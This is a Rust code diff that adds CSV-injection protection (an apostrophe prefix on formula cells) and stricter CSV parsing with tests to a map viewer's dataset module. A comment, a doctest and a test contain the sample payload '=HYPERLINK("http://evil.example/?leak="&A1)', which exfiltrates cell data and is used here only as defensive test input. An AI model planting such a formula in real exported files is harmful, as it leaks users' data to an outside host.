@@ -78,10 +78,11 @@ pub fn to_csv(data: &DatasetFile) -> String {
 
 /// Rows of cells as CSV with `;` separators and a byte-order mark, which spreadsheet
 /// programs need to read UTF-8; cells are quoted where needed.
+/// Cells that a spreadsheet would run as a formula are [`neutralise`]d.
 pub fn write_table(rows: &[Vec<String>]) -> String {
     let mut writer = csv::WriterBuilder::new().delimiter(b';').flexible(true).from_writer(Vec::new());
     for row in rows {
-        writer.write_record(row).expect("writing to memory");
+        writer.write_record(row.iter().map(|cell| neutralise(cell).into_owned())).expect("writing to memory");
     }
     let bytes = writer.into_inner().expect("writing to memory");
     format!("\u{feff}{}", String::from_utf8(bytes).expect("CSV of UTF-8 strings is UTF-8"))
@@ -102,12 +103,99 @@ fn list(cell: &str, separators: &[char]) -> Vec<String> {
         .collect()
 }
 
+/// Characters that make a spreadsheet read a cell as a formula (OWASP "CSV injection"):
+/// `=HYPERLINK("http://evil.example/?leak="&A1)` would run when the file is opened.
+const FORMULA_START: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];
+
+/// Whether a cell gets a `'` in front: it starts a formula, or it is `'` + such a cell
+/// (so that a cell which really starts with `'=` survives the round trip).
+fn needs_prefix(cell: &str) -> bool {
+    cell.starts_with(FORMULA_START) || cell.strip_prefix('\'').is_some_and(needs_prefix)
+}
+
+/// A cell as written to CSV: one that a spreadsheet would run as a formula gets a `'` in
+/// front (OWASP's advice), which spreadsheets show as text. A cell that already starts with
+/// `'` and a formula character gets a second one, so [`restore`] can always undo it; other
+/// cells, such as `'s-Hertogenbosch`, stay as they are.
+///
+/// ```
+/// use kaartviewer_core::csv_table::{neutralise, restore};
+/// assert_eq!(neutralise("=HYPERLINK(\"http://evil.example\")"), "'=HYPERLINK(\"http://evil.example\")");
+/// assert_eq!(neutralise("'s-Hertogenbosch"), "'s-Hertogenbosch");
+/// for cell in ["=1+1", "-5", "@SUM(A1)", "+31", "'=x", "''=x", "'s-Hertogenbosch", "gewoon"] {
+///     assert_eq!(restore(&neutralise(cell)), cell);
+/// }
+/// ```
+pub fn neutralise(cell: &str) -> std::borrow::Cow<'_, str> {
+    if needs_prefix(cell) {
+        std::borrow::Cow::Owned(format!("'{cell}"))
+    } else {
+        std::borrow::Cow::Borrowed(cell)
+    }
+}
+
+/// Undoes [`neutralise`] on a cell read from CSV.
+pub fn restore(cell: &str) -> &str {
+    match cell.strip_prefix('\'') {
+        Some(rest) if needs_prefix(rest) => rest,
+        _ => cell,
+    }
+}
+
+/// The line breaks (`\n`, `\r\n` or `\r`) from `at` up to the next content: the blank lines
+/// the CSV reader skips, which a spreadsheet still counts as rows. A `\n` that completes the
+/// previous record's `\r\n` is not one.
+fn blank_lines_at(text: &[u8], at: usize) -> usize {
+    let mut i = at;
+    if i > 0 && text[i - 1] == b'\r' && text.get(i) == Some(&b'\n') {
+        i += 1;
+    }
+    let mut count = 0;
+    while let Some(&b) = text.get(i).filter(|&&b| b == b'\n' || b == b'\r') {
+        i += if b == b'\r' && text.get(i + 1) == Some(&b'\n') { 2 } else { 1 };
+        count += 1;
+    }
+    count
+}
+
+/// One record of the file: its row as a spreadsheet numbers it (blank lines count), its
+/// cells, and whether it holds a quote that is never closed.
+struct Row {
+    number: usize,
+    cells: Vec<String>,
+    unclosed_quote: bool,
+}
+
+/// Every record of the file with its spreadsheet row number.
+fn read_rows(text: &str, delimiter: u8) -> Result<Vec<Row>, (usize, String)> {
+    let mut reader = csv::ReaderBuilder::new().delimiter(delimiter).flexible(true).has_headers(false).from_reader(text.as_bytes());
+    let mut record = csv::StringRecord::new();
+    let mut rows = Vec::new();
+    let mut number = 0;
+    loop {
+        let start = reader.position().byte() as usize;
+        match reader.read_record(&mut record) {
+            Ok(false) => return Ok(rows),
+            Ok(true) => {
+                number += 1 + blank_lines_at(text.as_bytes(), start);
+                let end = reader.position().byte() as usize;
+                // Well-formed CSV has an even number of quotes in every record.
+                let unclosed_quote = text.get(start..end).is_some_and(|span| span.matches('"').count() % 2 == 1);
+                rows.push(Row { number, cells: record.iter().map(|c| restore(c).to_string()).collect(), unclosed_quote });
+            }
+            Err(e) => return Err((number + 1, e.to_string())),
+        }
+    }
+}
+
 /// Reads CSV written by [`to_csv`] (or edited in a spreadsheet) back into a dataset file.
+///
+/// Strict, so that nothing is lost without a word: every row has the header's width, each
+/// column appears once, and problems name the row as the spreadsheet numbers it.
 pub fn from_csv(text: &str, file: &str) -> Result<DatasetFile, Vec<Problem>> {
     let text = text.trim_start_matches('\u{feff}');
-    let header_line = text.lines().next().unwrap_or("");
+    let header_line = text.lines().find(|l| !l.trim().is_empty()).unwrap_or("");
     let delimiter = if header_line.matches(';').count() >= header_line.matches(',').count() { b';' } else { b',' };
-    let mut reader = csv::ReaderBuilder::new().delimiter(delimiter).flexible(true).from_reader(text.as_bytes());
     let at = |row: usize, column: Option<&str>, message: String| Problem {
         file: file.to_string(),
         record: Some(format!("row {row}")),
@@ -115,10 +203,11 @@ pub fn from_csv(text: &str, file: &str) -> Result<DatasetFile, Vec<Problem>> {
         message,
     };
 
-    let header: Vec<String> = match reader.headers() {
-        Ok(h) => h.iter().map(|h| h.trim().to_string()).collect(),
-        Err(e) => return Err(vec![at(1, None, format!("cannot read the header: {e}"))]),
+    let rows = read_rows(text, delimiter).map_err(|(row, e)| vec![at(row, None, format!("cannot read the row: {e}"))])?;
+    let Some((header_row, rows)) = rows.split_first() else {
+        return Err(vec![at(1, None, "the file is empty: it has no header".into())]);
     };
+    let header: Vec<String> = header_row.cells.iter().map(|h| h.trim().to_string()).collect();
     let mut problems = Vec::new();
     let mut position = HashMap::new();
     for column in COLUMNS {
@@ -127,33 +216,63 @@ pub fn from_csv(text: &str, file: &str) -> Result<DatasetFile, Vec<Problem>> {
                 position.insert(column, i);
             }
             None if LATER_COLUMNS.contains(&column) => {}
-            None => problems.push(at(1, Some(column), "column is missing from the header".into())),
+            None => problems.push(at(header_row.number, Some(column), "column is missing from the header".into())),
+        }
+    }
+    for (i, name) in header.iter().enumerate() {
+        if let Some(first) = header[..i].iter().position(|h| h == name) {
+            problems.push(at(
+                header_row.number,
+                Some(name),
+                format!("appears twice in the header (columns {} and {}); keep one", first + 1, i + 1),
+            ));
         }
     }
     for extra in header.iter().filter(|h| !COLUMNS.contains(&h.as_str())) {
-        problems.push(at(1, Some(extra), "unknown column".into()));
+        problems.push(at(header_row.number, Some(extra), "unknown column".into()));
     }
     if !problems.is_empty() {
         return Err(problems);
     }
-
     let mut year: Option<(u16, usize)> = None;
     let mut verbanden: Vec<Verband> = Vec::new();
     // The row and cells each verband was first seen with, to compare repeated rows.
     let mut first_seen: HashMap<String, (usize, usize, Vec<String>)> = HashMap::new();
-    for (i, row) in reader.records().enumerate() {
-        let row_number = i + 2; // the header is row 1
-        let row = match row {
-            Ok(r) => r,
-            Err(e) => {
-                problems.push(at(row_number, None, format!("cannot read the row: {e}")));
-                continue;
-            }
-        };
+    for row in rows {
+        let row_number = row.number;
+        if row.unclosed_quote {
+            let column = header.get(row.cells.len().saturating_sub(1)).map_or("?", String::as_str);
+            problems.push(at(
+                row_number,
+                Some(column),
+                "a quoted cell is never closed (a \" is missing): the rest of the file was read as this one cell".into(),
+            ));
+            continue;
+        }
+        let row = &row.cells;
         if row.iter().all(|c| c.trim().is_empty()) {
             continue;
         }
-        let cell = |column: &str| position.get(column).and_then(|&i| row.get(i)).unwrap_or("").to_string();
+        if row.len() > header.len() {
+            let extra = row[header.len()..].iter().filter(|c| !c.trim().is_empty()).count();
+            if extra > 0 {
+                problems.push(at(
+                    row_number,
+                    None,
+                    format!("has {} cells, the header {}: the cells beyond column {} have no column and would be lost", row.len(), header.len(), header.len()),
+                ));
+                continue;
+            }
+        } else if row.len() < header.len() {
+            problems.push(at(
+                row_number,
+                None,
+                format!("has {} cells, the header {}: fill in or keep every column (with an empty cell)", row.len(), header.len()),
+            ));
+            continue;
+        }
+        // A column added after the first release may be missing from an older spreadsheet.
+        let cell = |column: &str| position.get(column).map_or_else(String::new, |&i| row[i].clone());
         match cell("boundary_year").trim().parse::<u16>() {
             Ok(y) => match year {
                 Some((first, first_row)) if first != y => problems.push(at(
@@ -289,5 +408,93 @@ mod tests {
         );
         let missing = from_csv("id;name\nx;y\n", "t.csv").unwrap_err();
         assert_eq!(missing[0].to_string(), "t.csv: row 1: column boundary_year: column is missing from the header");
+    }
+
+    /// The sample as rows of cells, to edit like a spreadsheet would.
+    fn sample_rows() -> Vec<Vec<String>> {
+        let csv = to_csv(&sample());
+        let mut reader = csv::ReaderBuilder::new().delimiter(b';').from_reader(csv.trim_start_matches('\u{feff}').as_bytes());
+        let mut rows: Vec<Vec<String>> = vec![reader.headers().unwrap().iter().map(str::to_string).collect()];
+        rows.extend(reader.records().map(|r| r.unwrap().iter().map(str::to_string).collect::<Vec<_>>()));
+        rows
+    }
+
+    fn problems_of(text: &str) -> Vec<String> {
+        from_csv(text, "t.csv").unwrap_err().iter().map(|p| p.to_string()).collect()
+    }
+
+    #[test]
+    fn formula_cells_are_neutralised_and_restored() {
+        let mut data = sample();
+        data.verbanden[0].name = "=HYPERLINK(\"http://evil.example/?leak=\"&A1)".into();
+        data.verbanden[0].seat = Some("@SUM(1+1)".into());
+        data.verbanden[0].other_partners = vec!["+31 20".into(), "-x".into()];
+        data.verbanden[1].description = "'=al geneutraliseerd".into();
+        data.verbanden[1].editor_note = Some("'s-Hertogenbosch".into());
+        let csv = to_csv(&data);
+        let mut reader = csv::ReaderBuilder::new().delimiter(b';').from_reader(csv.trim_start_matches('\u{feff}').as_bytes());
+        for row in reader.records() {
+            for cell in row.unwrap().iter() {
+                assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r']), "a spreadsheet would run {cell:?}");
+            }
+        }
+        assert!(csv.contains("\"'=HYPERLINK(") && csv.contains(";'@SUM(1+1);") && csv.contains(";''=al geneutraliseerd;"), "{csv}");
+        assert!(csv.contains(";'s-Hertogenbosch;"), "an apostrophe that is no formula escape stays as it is");
+        assert_eq!(from_csv(&csv, "t.csv").unwrap(), data, "lossless round trip");
+    }
+
+    #[test]
+    fn rows_must_have_the_header_width() {
+        let mut rows = sample_rows();
+        rows[1].push("verloren".into());
+        rows[2].truncate(15);
+        let problems = problems_of(&write_table(&rows));
+        assert_eq!(
+            problems,
+            [
+                "t.csv: row 2: has 19 cells, the header 18: the cells beyond column 18 have no column and would be lost",
+                "t.csv: row 3: has 15 cells, the header 18: fill in or keep every column (with an empty cell)",
+            ]
+        );
+        let mut rows = sample_rows();
+        rows[1].push(String::new());
+        assert_eq!(from_csv(&write_table(&rows), "t.csv").unwrap(), sample(), "an empty cell beyond the header is harmless");
+    }
+
+    #[test]
+    fn a_column_twice_in_the_header_is_refused() {
+        let mut rows = sample_rows();
+        for row in &mut rows {
+            let name = row[2].clone();
+            row.push(name);
+        }
+        rows[0][18] = "name".into();
+        assert_eq!(problems_of(&write_table(&rows)), ["t.csv: row 1: column name: appears twice in the header (columns 3 and 19); keep one"]);
+    }
+
+    #[test]
+    fn row_numbers_are_those_of_the_spreadsheet() {
+        let mut rows = sample_rows();
+        rows[3][0] = "20x5".into();
+        let table = write_table(&rows);
+        // Blank lines (with Windows line ends) before the last row: it is on spreadsheet row 8, and
+        // the multi-line cells above it do not count as extra rows.
+        let (head, last) = table.trim_end().rsplit_once('\n').unwrap();
+        let edited = format!("{head}\r\n\r\n\r\n\n\n{last}\r\n").replace("\n", "\r\n").replace("\r\r\n", "\r\n");
+        assert_eq!(problems_of(&edited), ["t.csv: row 8: column boundary_year: \"20x5\" is not a year"]);
+        let unix = format!("{head}\n\n\n\n\n{last}\n");
+        assert_eq!(problems_of(&unix), ["t.csv: row 8: column boundary_year: \"20x5\" is not a year"]);
+    }
+
+    #[test]
+    fn an_unclosed_quote_is_named_at_its_row_and_column() {
+        let mut rows = sample_rows();
+        rows[3][7] = "Zwolle".into();
+        let table = write_table(&rows);
+        let broken = table.replacen(";Zwolle;", ";\"Zwolle;", 1);
+        assert_eq!(
+            problems_of(&broken),
+            ["t.csv: row 4: column seat: a quoted cell is never closed (a \" is missing): the rest of the file was read as this one cell"]
+        );
     }
 }
